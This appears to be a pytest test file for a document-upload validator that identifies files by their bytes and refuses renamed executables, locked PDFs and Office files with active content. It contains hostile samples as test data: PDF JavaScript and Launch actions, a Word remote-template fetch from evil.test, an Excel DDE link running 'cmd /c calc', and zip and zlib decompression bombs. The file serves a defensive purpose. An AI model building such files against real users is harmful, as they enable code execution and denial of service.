"""What bytes are, their content says: renamed, active, locked and swollen files are refused, and plain ones are not."""

import contextlib
import io
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterable

import pytest

from shared.documents.content import MAX_DOCUMENT_BYTES, media_type_of
from shared.documents.refusals import (
    ActiveOffice,
    ActivePdf,
    BrokenOffice,
    EmptyDocument,
    LockedPdf,
    NoDocument,
    OpaquePdf,
    SwollenOffice,
    TooLargeDocument,
)
from shared.errors import Refusal

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40 + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 40 + b"\xff\xd9"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first of them its catalogue."""
    numbered = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + numbered + b"trailer\n<</Root 1 0 R" + trailer + b">>\nstartxref\n9\n%%EOF\n"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def packed(*objects: tuple[int, bytes], filtered: bool = True) -> bytes:
    """A packed stream of numbered objects."""
    places = [sum(len(body) + 1 for _, body in objects[:n]) for n in range(len(objects))]
    head = b" ".join(b"%d %d" % (number, place) for (number, _), place in zip(objects, places, strict=True)) + b" "
    text = head + b" ".join(body for _, body in objects)
    entries = b"/Type/ObjStm/N %d/First %d" % (len(objects), len(head))
    return stream(zlib.compress(text), entries + b"/Filter/FlateDecode") if filtered else stream(text, entries)


def office(kind: str = "wordprocessingml.document", /, *, contents: str = "", **parts: str) -> bytes:
    """An Office file of this kind."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        main = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{main}"/>{contents}</Types>')
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return made.getvalue()


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
HELLO = stream(zlib.compress(b"BT (hello) Tj ET"), b"/Filter/FlateDecode")
GOES_TO_A_PAGE = b"<</S/GoTo/D[2 0 R/Fit]>>"


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (pdf(CATALOGUE, PAGES, HELLO), "application/pdf"),
        (pdf(b"<</Type/Catalog/OpenAction[2 0 R/Fit]>>", PAGES), "application/pdf"),
        (pdf(b"<</Type/Catalog/OpenAction 3 0 R>>", PAGES, GOES_TO_A_PAGE), "application/pdf"),
        (pdf(b"<</Type/Catalog/OpenAction 7 0 R>>", packed((6, PAGES), (7, GOES_TO_A_PAGE))), "application/pdf"),
        (
            pdf(CATALOGUE, b"<</Type/Outlines/First 2 0 R>>", b"<</S/URI/URI(http://a.test)>>", HELLO),
            "application/pdf",
        ),
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (office(), DOCX),
        (office("spreadsheetml.sheet", **{"xl__printerSettings__printerSettings1.bin": "x"}), XLSX),
        (office("spreadsheetml.sheet", **{"xl__externalLinks__externalLink1.xml": "<externalBook/>"}), XLSX),
        (
            office(
                **{
                    "word___rels__document.xml.rels": '<Relationship Type="http://x/relationships/hyperlink" '
                    'Target="https://example.test/frame" TargetMode="External"/>'
                }
            ),
            DOCX,
        ),
    ],
)
def test_plain_papers_are_known_by_their_content(content: bytes, media_type: str) -> None:
    assert media_type_of(content) == media_type


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", EmptyDocument),
        (b"MZ\x90\x00 this is a program that was renamed to contract.pdf", NoDocument),
        (b"<html><script>alert(1)</script></html>", NoDocument),
        (b"MZ\x90\x00" + pdf(CATALOGUE, PAGES), NoDocument),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old or a locked Office file", NoDocument),
        (PNG[:-4], NoDocument),
        (JPEG + b"PK\x03\x04", NoDocument),
        (b"%PDF-" + b"\x00" * MAX_DOCUMENT_BYTES, TooLargeDocument),
        (office("presentationml.presentation"), NoDocument),
        (office()[:-30], BrokenOffice),
    ],
)
def test_what_is_no_paper_is_refused_whatever_it_is_called(content: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal):
        media_type_of(content)


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (pdf(CATALOGUE, SCRIPT), ActivePdf),
        (pdf(CATALOGUE, b"<</S/J#61vaScript/J#53(app.alert(1))>>"), ActivePdf),
        (pdf(CATALOGUE, packed((7, SCRIPT))), ActivePdf),
        (pdf(CATALOGUE, packed((7, SCRIPT), filtered=False)), ActivePdf),
        (pdf(CATALOGUE, b"<</S/Launch/F(calc.exe)>>"), ActivePdf),
        (pdf(CATALOGUE, b"<</Names<</EmbeddedFiles 5 0 R>>>>"), ActivePdf),
        (pdf(CATALOGUE, b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), ActivePdf),
        (pdf(CATALOGUE, b"<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>"), ActivePdf),
        (pdf(CATALOGUE, b"<</Type/Page/AA<</O 5 0 R>>>>"), ActivePdf),
        (pdf(CATALOGUE, b"<</Subtype/RichMedia>>"), ActivePdf),
        (pdf(b"<</OpenAction 2 0 R>>", b"<</S/URI/URI(https://evil.test)>>"), ActivePdf),
        (pdf(b"<</OpenAction<</S/URI/URI(https://evil.test)>>>>"), ActivePdf),
        (pdf(b"<</OpenAction 2 0 R>>", b"<</S/GoTo/D[3 0 R]/Next 4 0 R>>"), ActivePdf),
        (pdf(b"<</OpenAction 9 0 R>>"), ActivePdf),
        (pdf(b"<</OpenAction 7 0 R>>", packed((7, b"<</S/URI/URI(https://evil.test)>>"))), ActivePdf),
        (pdf(CATALOGUE, trailer=b"/Encrypt 5 0 R"), LockedPdf),
        (pdf(CATALOGUE, PAGES)[:-10], OpaquePdf),
        (pdf(CATALOGUE, b"<</Length 9>>\nstream\nno end"), OpaquePdf),
        (pdf(CATALOGUE, stream(b"not deflated", b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode")), OpaquePdf),
        (pdf(CATALOGUE, stream(b"37>", b"/Type/ObjStm/N 1/First 5/Filter/ASCIIHexDecode")), OpaquePdf),
        (pdf(CATALOGUE, b"5", stream(b"", b"/N 1/First 2 0 R")), OpaquePdf),
        (pdf(CATALOGUE, b"<</Length 9>> stream \x0c\n9 0\nendstream"), OpaquePdf),
        (pdf(CATALOGUE, b"(>>\nstream\n) 9 0 obj <</OpenAction 4 0 R>> endobj (\nendstream)"), OpaquePdf),
    ],
)
def test_a_pdf_that_acts_hides_or_is_locked_is_refused(content: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal):
        media_type_of(content)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (office(**{"word__vbaProject.bin": "x"}), ActiveOffice),
        (office("spreadsheetml.sheet", **{"xl__macrosheets__sheet1.xml": "x"}), ActiveOffice),
        (
            office(contents='<Override ContentType="x/vnd.ms-word.document.macroEnabled.main+xml"/>'),
            ActiveOffice,
        ),
        (office(**{"word__embeddings__oleObject1.bin": "x"}), ActiveOffice),
        (
            office(
                **{
                    "word___rels__settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
                    'Target="http://evil.test/t.dotm" TargetMode="External"/>'
                }
            ),
            ActiveOffice,
        ),
        (
            office(
                **{
                    "word___rels__settings.xml.rels": "<Relationship TargetMode='External' "
                    "Type='http://x/attached&#x54;emplate' Target='http://evil.test/t.dotm'/>"
                }
            ),
            ActiveOffice,
        ),
        (
            office(
                "spreadsheetml.sheet",
                **{"xl__externalLinks__externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'},
            ),
            ActiveOffice,
        ),
        (office(**{f"word__part{n}.xml": "" for n in range(2000)}), SwollenOffice),
        (office(**{"word___rels__document.xml.rels": " " * (5 * 1024 * 1024)}), SwollenOffice),
    ],
)
def test_an_office_file_that_acts_or_swells_is_refused(content: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal):
        media_type_of(content)


def test_an_office_file_is_unpacked_no_further_than_its_bound() -> None:
    bomb = office(**{"word__document.xml": "0" * (257 * 1024 * 1024)})

    assert len(bomb) < MAX_DOCUMENT_BYTES
    with pytest.raises(SwollenOffice):
        media_type_of(bomb)


def test_packed_objects_of_a_pdf_are_unpacked_no_further_than_their_bound() -> None:
    bomb = pdf(
        CATALOGUE, stream(zlib.compress(b" " * (65 * 1024 * 1024)), b"/Type/ObjStm/N 0/First 0/Filter/FlateDecode")
    )

    with pytest.raises(OpaquePdf):
        media_type_of(bomb)


@pytest.mark.parametrize(
    "unit", [b"5 0 obj[", b"/OpenAction<<", b"#41", b">>stream\nendstream ", b"/First 7 0 R 7 0 obj "]
)
def test_no_repetition_keeps_the_look_into_a_pdf_from_its_end_or_swells_it(unit: bytes) -> None:
    tracemalloc.start()
    try:
        with contextlib.suppress(Refusal):
            media_type_of(b"%PDF-1.7\n/OpenAction 5 0 R\n" + unit * 100_000 + b"\n%%EOF\n")
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert most < 64 * 1024 * 1024


def refusals() -> Iterable[type[Refusal]]:
    return (ActiveOffice, ActivePdf, BrokenOffice, EmptyDocument, LockedPdf, NoDocument, OpaquePdf)


@pytest.mark.parametrize("refusal", refusals())
def test_every_refusal_says_in_both_languages_what_would_pass(refusal: type[Refusal]) -> None:
    said = refusal(found="JavaScript")

    assert said.say("en") != said.say("zh")
